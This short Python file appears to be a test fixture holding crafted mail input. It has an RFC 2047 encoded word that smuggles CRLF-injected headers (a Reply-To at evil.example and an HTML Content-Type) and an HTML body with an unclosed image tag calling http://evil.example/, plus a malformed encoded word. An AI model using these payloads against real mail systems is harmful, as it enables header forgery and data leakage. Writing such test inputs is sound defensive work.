"""What somebody types to have a mail program read it as something else than text."""

# RFC 2047 words; those who decode them find headers and the body of a mail.
ATTACK = (
    "=?utf-8?q?x=0d=0aReply-To:_evil@evil.example=0d=0aContent-Type:_text/html=0d=0a=0d=0a"
    "<h1>Bonjour</h1><img_src='http://evil.example/?="
)
UNDECODABLE = "=?utf-8?b?////?="
